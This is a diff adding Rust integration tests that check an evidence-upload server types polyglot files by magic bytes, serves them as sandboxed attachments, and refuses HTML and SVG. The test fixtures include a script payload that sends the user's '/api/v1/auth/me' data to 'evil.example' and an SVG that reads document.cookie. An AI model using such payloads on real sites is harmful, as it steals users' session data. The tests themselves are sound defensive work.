@@ -21,6 +21,47 @@ both_backends!(
     another_tenants_evidence_is_a_404,
 );
 
+/// Uploads `bytes` as `kind` to the demo inspection's first item, with a correct digest and,
+/// if given, the client's file name.
+async fn put_evidence(
+    app: &crate::helpers::TestApp,
+    token: &str,
+    id: Uuid,
+    kind: &str,
+    bytes: &[u8],
+    file_name: Option<&str>,
+) -> reqwest::Response {
+    let mut query = vec![
+        ("inspection_id", app.demo.inspection_id.to_string()),
+        ("item_key", "osh.machine_guards".to_owned()),
+        ("kind", kind.to_owned()),
+    ];
+    if let Some(name) = file_name {
+        query.push(("file_name", name.to_owned()));
+    }
+    app.client
+        .put(app.url(&format!("/api/v1/evidence/{id}")))
+        .bearer_auth(token)
+        .query(&query)
+        .header("content-digest", content_digest(bytes))
+        .body(bytes.to_vec())
+        .send()
+        .await
+        .expect("PUT evidence")
+}
+
+/// The evidence row under `id`, if one was committed.
+async fn evidence_row(
+    app: &crate::helpers::TestApp,
+    id: Uuid,
+) -> Option<kiemtra_server::entities::evidence::Model> {
+    use sea_orm::EntityTrait;
+    kiemtra_server::entities::evidence::Entity::find_by_id(id)
+        .one(&app.db)
+        .await
+        .expect("reading the evidence table")
+}
+
 async fn uploaded_photo_is_stored_and_read_back_byte_exact(backend: Backend) {
     let app = spawn_app(backend).await;
     let token = app.token(INSPECTOR).await;
@@ -239,7 +280,7 @@ mod derivatives {
     }
 
     /// Polls until the derivatives are no longer pending (deadline 60 s).
-    async fn settled(app: &TestApp, token: &str, id: Uuid) -> EvidenceMeta {
+    pub(super) async fn settled(app: &TestApp, token: &str, id: Uuid) -> EvidenceMeta {
         let deadline = Instant::now() + Duration::from_secs(60);
         loop {
             let meta = evidence_meta(app, token, id).await;
@@ -483,7 +524,7 @@ mod derivatives {
         }
     }
 
-    fn crc32(bytes: &[u8]) -> u32 {
+    pub(super) fn crc32(bytes: &[u8]) -> u32 {
         let mut crc = 0xFFFF_FFFFu32;
         for &b in bytes {
             crc ^= u32::from(b);
@@ -629,6 +670,148 @@ mod streaming {
         let status = raw(&app, head, &chunked).await;
 
         assert_eq!(status, 413);
+        assert_eq!(app.stored_object_count().await, 0);
+    }
+}
+
+mod polyglots {
+    //! Files that are two formats at once: the type is what the magic bytes say, and a download
+    //! is never rendered by the browser.
+
+    use kiemtra_shared::evidence::{DerivativeState, EvidenceMeta};
+    use sha2::Digest;
+    use uuid::Uuid;
+
+    use super::derivatives::{crc32, settled};
+    use super::{evidence_row, put_evidence};
+    use crate::both_backends;
+    use crate::helpers::{Backend, INSPECTOR, REVIEWER, error_body, jpeg_of_size, spawn_app};
+
+    both_backends!(
+        a_jpeg_carrying_html_and_a_zip_after_its_end_is_served_as_an_attachment,
+        html_and_svg_are_refused_as_photo_and_as_document,
+    );
+
+    /// A ZIP archive holding one stored (uncompressed) file.
+    fn zip_with(name: &str, content: &[u8]) -> Vec<u8> {
+        let crc = crc32(content);
+        let size = content.len() as u32;
+        let name_len = name.len() as u16;
+        let mut zip = b"PK\x03\x04".to_vec();
+        for field in [20u16, 0, 0, 0, 0] {
+            zip.extend(field.to_le_bytes());
+        }
+        for field in [crc, size, size] {
+            zip.extend(field.to_le_bytes());
+        }
+        zip.extend(name_len.to_le_bytes());
+        zip.extend(0u16.to_le_bytes());
+        zip.extend(name.as_bytes());
+        zip.extend(content);
+        let central_start = zip.len() as u32;
+        zip.extend(b"PK\x01\x02");
+        for field in [20u16, 20, 0, 0, 0, 0] {
+            zip.extend(field.to_le_bytes());
+        }
+        for field in [crc, size, size] {
+            zip.extend(field.to_le_bytes());
+        }
+        for field in [name_len, 0, 0, 0, 0] {
+            zip.extend(field.to_le_bytes());
+        }
+        zip.extend(0u32.to_le_bytes());
+        zip.extend(0u32.to_le_bytes());
+        zip.extend(name.as_bytes());
+        let central_size = zip.len() as u32 - central_start;
+        zip.extend(b"PK\x05\x06");
+        for field in [0u16, 0, 1, 1] {
+            zip.extend(field.to_le_bytes());
+        }
+        zip.extend(central_size.to_le_bytes());
+        zip.extend(central_start.to_le_bytes());
+        zip.extend(0u16.to_le_bytes());
+        zip
+    }
+
+    const SCRIPT_PAGE: &[u8] = b"<!doctype html><html><body><script>fetch('/api/v1/auth/me')\
+        .then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))\
+        </script></body></html>";
+
+    async fn a_jpeg_carrying_html_and_a_zip_after_its_end_is_served_as_an_attachment(
+        backend: Backend,
+    ) {
+        let app = spawn_app(backend).await;
+        let inspector = app.token(INSPECTOR).await;
+        let reviewer = app.token(REVIEWER).await;
+        let mut polyglot = jpeg_of_size(640, 480, 11);
+        assert_eq!(polyglot[polyglot.len() - 2..], [0xFF, 0xD9], "ends with EOI");
+        polyglot.extend(SCRIPT_PAGE);
+        polyglot.extend(zip_with("payload.html", SCRIPT_PAGE));
+        let id = Uuid::new_v4();
+
+        let response = put_evidence(&app, &inspector, id, "photo", &polyglot, None).await;
+
+        assert_eq!(response.status(), 201, "data after EOI is accepted");
+        let meta: EvidenceMeta = response.json().await.unwrap();
+        assert_eq!(meta.content_type, "image/jpeg");
+        assert_eq!(meta.sha256, hex::encode(sha2::Sha256::digest(&polyglot)));
+        let download = app
+            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
+            .await;
+        assert_eq!(download.status(), 200);
+        let headers = download.headers().clone();
+        assert_eq!(headers["content-type"], "image/jpeg");
+        assert_eq!(headers["x-content-type-options"], "nosniff");
+        let disposition = headers["content-disposition"].to_str().unwrap();
+        assert!(
+            disposition.starts_with("attachment"),
+            "never inline: {disposition}"
+        );
+        let csp = headers["content-security-policy"].to_str().unwrap();
+        assert!(
+            csp.split(';').any(|d| d.trim() == "sandbox"),
+            "sandboxed: {csp}"
+        );
+        assert!(csp.contains("default-src 'none'"), "{csp}");
+        assert_eq!(
+            download.bytes().await.unwrap().as_ref(),
+            polyglot.as_slice(),
+            "the original is kept byte-exact, trailing data included"
+        );
+        assert_eq!(
+            settled(&app, &reviewer, id).await.derivatives,
+            DerivativeState::Done,
+            "the photo part still gets its thumbnail"
+        );
+    }
+
+    async fn html_and_svg_are_refused_as_photo_and_as_document(backend: Backend) {
+        let app = spawn_app(backend).await;
+        let inspector = app.token(INSPECTOR).await;
+        let mut html_with_jpeg = SCRIPT_PAGE.to_vec();
+        html_with_jpeg.extend(b"<!-- ");
+        html_with_jpeg.extend(jpeg_of_size(32, 32, 12));
+        html_with_jpeg.extend(b" -->");
+        let svg = br#"<?xml version="1.0" encoding="UTF-8"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">
+<script>alert(1)</script><rect width="10" height="10"/></svg>"#
+            .to_vec();
+
+        for (what, bytes) in [("html", &html_with_jpeg), ("svg", &svg)] {
+            for kind in ["photo", "document"] {
+                let id = Uuid::new_v4();
+
+                let response = put_evidence(&app, &inspector, id, kind, bytes, None).await;
+
+                assert_eq!(response.status(), 415, "{what} as {kind}");
+                assert_eq!(
+                    error_body(response).await.code,
+                    "unsupported_media_type",
+                    "{what} as {kind}"
+                );
+                assert!(evidence_row(&app, id).await.is_none(), "{what} as {kind}: no row");
+            }
+        }
         assert_eq!(app.stored_object_count().await, 0);
     }
 }
